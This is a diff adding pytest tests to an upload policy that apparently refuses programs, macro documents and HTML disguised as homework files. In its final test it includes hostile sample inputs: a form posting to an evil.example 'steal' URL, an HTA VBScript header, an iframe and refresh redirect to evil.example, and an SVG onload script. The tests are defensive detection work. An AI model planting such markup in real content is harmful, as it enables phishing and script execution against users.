@@ -13,7 +13,9 @@ from policies.media import (
     OUTSIDER,
     MediaRules,
     Quota,
+    ZipContents,
     clamd_address,
+    declared_content_types,
     default_media_rules,
     megabytes,
     ole_clsid,
@@ -223,3 +225,88 @@ def test_installer_refused_old_office_documents_kept():
     assert R.type_of(compound_file(MSI_CLSID), "application/msword", compound_file(MSI_CLSID)[1024:1152]) == (
         "application/x-msi")  # an installer is a program whatever else matched
     assert ole_root_entry_offset(b"%PDF") is None and ole_clsid(None) is None
+
+
+# -- issue 11 attack F2: programs by what a ZIP holds, by name and claimed type; markup after a line of text
+
+@pytest.mark.parametrize(("names", "types", "mime"), [
+    (("AndroidManifest.xml", "classes.dex", "resources.arsc"), (), "application/vnd.android.package-archive"),
+    (("classes.dex",), (), "application/vnd.android.package-archive"),
+    (("META-INF/MANIFEST.MF", "Homework.class"), (), "application/java-archive"),
+    (("meta-inf/manifest.mf",), (), "application/java-archive"),
+    (("__main__.py", "lib/x.py"), (), "application/x-python-zipapp"),
+    (("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), (), "application/vnd.ms-office.vbaProject"),
+    (("[Content_Types].xml", "xl/workbook.xml"), ("application/vnd.ms-excel.sheet.macroEnabled.main+xml",),
+     "application/vnd.ms-office.vbaProject"),
+    # archives that only hold sources or documents stay archives
+    (("app/src/main/AndroidManifest.xml", "app/src/main/java/Main.java"), (), None),
+    (("project/__main__.py", "homework.exe"), (), None),
+    (("mimetype", "META-INF/manifest.xml", "content.xml"), (), None),
+    (("[Content_Types].xml", "word/document.xml"),
+     ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",), None),
+])
+def test_zip_archives_that_are_programs(names, types, mime):
+    archive = ZipContents(names, types)
+    assert R.archive_program(archive) == mime
+    assert R.type_of(b"PK\x03\x04", "application/zip", archive=archive) == (mime or "application/zip")
+
+
+def test_macros_refused_with_their_own_reason():
+    d = R.may_keep("application/vnd.ms-office.vbaProject")
+    assert not d and d.reason == "file_has_macros" and d.message("ru").startswith("Документы с макросами")
+    assert not R.may_keep("application/vnd.android.package-archive")
+
+
+def test_declared_content_types():
+    xml = (b'<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+           b"<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled"
+           b".main+xml'/></Types>")
+    assert declared_content_types(xml) == ("application/vnd.ms-office.vbaProject",
+                                           "application/vnd.ms-word.document.macroEnabled.main+xml")
+
+
+@pytest.mark.parametrize(("name", "declared", "reason"), [
+    ("hw.apk", "application/vnd.android.package-archive", "file_is_program"),
+    ("hw.jar", "application/java-archive", "file_is_program"),
+    ("homework.bat", "application/x-bat", "file_is_program"),
+    ("homework.bat", "text/plain", "file_is_program"),
+    ("HOMEWORK.BAT", None, "file_is_program"),
+    ("homework.bat. ", None, "file_is_program"),  # Windows drops trailing dots and spaces
+    ("homework.hta", "application/hta", "file_is_program"),
+    ("hw.vbs", None, "file_is_program"), ("hw.ps1", None, "file_is_program"),
+    ("hw.desktop", None, "file_is_program"), ("hw.pyz", None, "file_is_program"),
+    ("hw.js", None, "file_is_program"),
+    ("notes.txt", "application/x-bat", "file_is_program"),  # the claimed type alone
+    ("notes.txt", "APPLICATION/HTA; charset=utf-8", "file_is_program"),
+    ("homework.docm", "application/vnd.ms-word.document.macroEnabled.12", "file_has_macros"),
+    ("table.xlsm", None, "file_has_macros"), ("slides.pptm", None, "file_has_macros"),
+    ("otvety.html", "text/html", "file_type_refused"), ("a.svg", "image/svg+xml", "file_type_refused"),
+    (None, "text/html", "file_type_refused"),
+])
+def test_program_names_and_claimed_types_refused(name, declared, reason):
+    d = R.may_keep_named(name, declared)
+    assert not d and d.reason == reason
+
+
+@pytest.mark.parametrize(("name", "declared"), [
+    ("dz.txt", "text/plain"), ("spisok.csv", "text/csv"), ("referat.docx", None), ("table.xlsx", None),
+    ("slides.pptx", None), ("lesson.pdf", "application/pdf"), ("photo.jpg", "image/jpeg"),
+    ("zadacha.py", "text/x-python"),
+    ("archive.zip", "application/zip"), ("file", "application/octet-stream"), ("", ""), (None, None),
+    ("Отчёт за 1 четверть", None), ("v1.2", None),
+])
+def test_everyday_names_left_to_the_bytes(name, declared):
+    assert R.may_keep_named(name, declared)
+
+
+@pytest.mark.parametrize(("head", "mime"), [
+    ("Ответы\n<html><body><form action='https://evil.example/steal'>".encode(), "text/html"),
+    (b"Homework list\r\n<html><head><HTA:APPLICATION/><script language='VBScript'>", "text/html"),
+    (b"notes\n\n<iframe src='https://evil.example'>", "text/html"),
+    (b"notes\n<META HTTP-EQUIV='refresh' content='0;url=https://evil.example'>", "text/html"),
+    (b"hi\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
+    ("Задачи: 3 < 5, 7 > 2; ответ <b>верный</b>".encode(), "text/plain"),
+    ("Фамилия;Имя\nИванов;Иван\n".encode("cp1251"), "text/plain"),
+])
+def test_markup_anywhere_in_the_first_bytes(head, mime):
+    assert text_type(head) == mime
